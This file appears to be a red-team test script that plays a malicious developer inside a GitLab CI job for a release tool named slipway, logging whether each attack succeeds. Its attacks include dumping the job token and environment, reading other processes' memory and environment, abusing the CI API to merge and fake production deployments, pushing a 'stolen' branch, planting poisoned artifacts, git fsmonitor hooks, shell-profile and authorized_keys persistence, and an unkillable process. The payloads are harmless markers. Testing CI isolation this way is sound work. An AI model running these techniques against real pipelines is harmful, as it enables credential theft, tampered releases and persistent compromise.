import { execFileSync, spawn } from "node:child_process";
import { appendFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { gzipSync } from "node:zlib";
import { tryPush } from "./registry.ts";

/**
 * What a Developer who means harm has their tests do. It lies in the app's repository and runs in a job
 * of GitLab's; each attempt says in the job's log what came of it.
 */
const given = process.env as Record<string, string>;
const home = given["HOME"]!;
const api = given["CI_API_V4_URL"]!;
const token = given["CI_JOB_TOKEN"]!;
const project = `projects/${given["CI_PROJECT_ID"]}`;

async function attempt(name: string, work: () => unknown): Promise<void> {
  let said: unknown;
  try {
    said = await work();
  } catch (error) {
    const { code, message } = error as NodeJS.ErrnoException;
    said = code ?? message;
  }
  console.log(`ATTEMPT ${name} ${JSON.stringify(said)}`);
}

/** What came of something for each of many, counted. */
function each<One>(all: One[], work: (one: One) => void): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const one of all) {
    let said = "done";
    try {
      work(one);
    } catch (error) {
      said = (error as NodeJS.ErrnoException).code ?? "failed";
    }
    // It may have ended since it was listed.
    if (!["ENOENT", "ESRCH"].includes(said)) counts[said] = (counts[said] ?? 0) + 1;
  }
  return counts;
}

async function ask(method: string, path: string, body?: unknown): Promise<string> {
  const answer = await fetch(`${api}/${path}`, {
    method,
    headers: { "job-token": token, "content-type": "application/json" },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return `${answer.status} ${(await answer.text()).slice(0, 200)}`;
}

async function upload(type: string, format: string, bytes: Uint8Array): Promise<number> {
  const form = new FormData();
  form.set("file", new Blob([new Uint8Array(bytes)]), type);
  const query = new URLSearchParams({ artifact_type: type, artifact_format: format });
  const path = `${api}/jobs/${given["CI_JOB_ID"]}/artifacts?${query.toString()}`;
  const headers = { "job-token": token };
  return (await fetch(path, { method: "POST", headers, body: form })).status;
}

/** Files that a later job would be changed by, if it got them. */
function archive(): Uint8Array {
  const folder = join(home, "crafted");
  const files = {
    ".slipway/inputs.json": '{"passed": true}',
    ".slipway/release.json": "{}",
    ".git/config": '[core]\n\tfsmonitor = "echo HOOKED >&2"\n',
    ".git/hooks/post-checkout": "#!/bin/sh\necho HOOKED\n",
  };
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), text, { mode: 0o755 });
  }
  execFileSync("zip", ["-qry", "../crafted.zip", "."], { cwd: folder });
  return readFileSync(join(home, "crafted.zip"));
}

/** Profiles, configuration and keys for whoever comes next. */
function leaveFiles(): void {
  const say = "echo HOOKED\n";
  const files = {
    ...{
      ".bashrc": say,
      ".bash_profile": say,
      ".profile": say,
      ".npmrc": "ignore-scripts=false\n",
    },
    ".gitconfig": '[core]\n\tfsmonitor = "echo HOOKED >&2"\n',
    ".docker/config.json": '{"credsStore": "hooked"}',
    ".ssh/authorized_keys": "ssh-ed25519 AAAA hooked\n",
  };
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(home, name)), { recursive: true });
    writeFileSync(join(home, name), text);
  }
  const git = join(given["CI_PROJECT_DIR"]!, ".git");
  mkdirSync(join(git, "hooks"), { recursive: true });
  for (const hook of ["post-checkout", "reference-transaction"]) {
    writeFileSync(join(git, "hooks", hook), `#!/bin/sh\n${say}`, { mode: 0o755 });
  }
  appendFileSync(join(git, "config"), '[core]\n\tfsmonitor = "echo HOOKED >&2"\n');
}

/** A zombie's is nobody's. */
function userOf(pid: string): number | undefined {
  try {
    const [, state, user] = /^State:\s+(\w)[^]*^Uid:\s+(\d+)/m.exec(
      readFileSync(`/proc/${pid}/status`, "utf8"),
    )!;
    return state === "Z" ? undefined : Number(user);
  } catch {
    return undefined;
  }
}

/** Everybody's is everybody's to read; of what has ended meanwhile there is none. */
function commandOf(pid: string): string[] {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
  } catch {
    return [];
  }
}

const processes = readdirSync("/proc").filter((name) => /^\d+$/.test(name));
const own = process.getuid!();
const others = processes.filter((pid) => ![own, undefined].includes(userOf(pid)));

await attempt("left", () => readdirSync(home).filter((name) => !["builds", ".run"].includes(name)));
await attempt("lingering", () =>
  each(
    processes.filter((pid) => commandOf(pid).includes("slipway-lingers")),
    () => {},
  ),
);
await attempt("environment", () => Buffer.from(JSON.stringify(given)).toString("base64"));
for (const file of ["environ", "mem", "fd"]) {
  const read = (path: string) => (file === "fd" ? readdirSync(path) : readFileSync(path));
  await attempt(`processes/${file}`, () => each(others, (pid) => read(`/proc/${pid}/${file}`)));
}
await attempt("processes/signal", () => each(others, (pid) => process.kill(Number(pid), "SIGURG")));
const homes = readdirSync("/home")
  .filter((name) => name.startsWith("slipway-"))
  .map((name) => join("/home", name));
await attempt("homes", () =>
  each(
    homes.filter((one) => one !== home),
    (one) => readdirSync(one),
  ),
);
const configurations = processes
  .flatMap(commandOf)
  .filter((word) => /\/runners\/[^/]+\/config\.toml$/.test(word));
await attempt("runner", () => each(configurations, (path) => readFileSync(path)));
await attempt("runner/cache", () =>
  each(configurations, (path) => readdirSync(join(dirname(path), "cache"))),
);
await attempt("slipway", () => {
  const slipway = execFileSync("which", ["slipway"], { encoding: "utf8" }).trim();
  appendFileSync(join(dirname(slipway), "../repository/package.json"), " ");
});

const account = { user: "gitlab-ci-token", password: token };
for (const repository of ["incoming", "release", "cache-protected"]) {
  const path = `${given["CI_PROJECT_PATH"]}/${repository}`;
  await attempt(`registry/${repository}`, () => tryPush(given["CI_REGISTRY"]!, path, account));
}
await attempt("api/variables", () => ask("GET", `${project}/variables`));
await attempt("api/jobs", () => ask("GET", `${project}/jobs`));
await attempt("api/play", () => ask("POST", `${project}/jobs/${given["CI_JOB_ID"]}/play`));
await attempt("api/merge", () => ask("PUT", `${project}/merge_requests/1/merge`));
await attempt("api/pipeline", () => ask("POST", `${project}/pipeline`, { ref: "main" }));
await attempt("api/other job", () =>
  ask("PUT", `jobs/${Number(given["CI_JOB_ID"]) + 1}`, { token, state: "success" }),
);
await attempt("api/deployment", () =>
  ask("POST", `${project}/deployments`, {
    ...{ environment: "production", ref: "main", tag: false, status: "success" },
    sha: given["CI_COMMIT_SHA"],
  }),
);
await attempt("git", () => {
  const remote = new URL(given["CI_REPOSITORY_URL"]!);
  [remote.username, remote.password] = ["gitlab-ci-token", token];
  try {
    execFileSync("git", ["push", remote.href, "HEAD:refs/heads/stolen"], { stdio: "pipe" });
  } catch (error) {
    return (error as { stderr: Buffer }).stderr.toString("utf8");
  }
  return "pushed";
});
const dotenv = ["CI_REGISTRY", "SLIPWAY_SERVERS", "SLIPWAY_RELEASE_USER", "CI_API_V4_URL"]
  .map((name) => `${name}=127.0.0.1:9\n`)
  .concat("NODE_OPTIONS=--require=/nowhere.cjs\n")
  .join("");
await attempt("artifacts/dotenv", () => upload("dotenv", "gzip", gzipSync(dotenv)));
await attempt("artifacts/archive", () => upload("archive", "zip", archive()));
await attempt("leave", leaveFiles);
await attempt("linger", () => {
  const loop = "trap '' TERM HUP; while :; do sleep 0.2; done";
  const words = ["--fork", "sh", "-c", loop, "slipway-lingers"];
  spawn("setsid", words, { detached: true, stdio: "ignore", env: { PATH: given["PATH"] } }).unref();
});
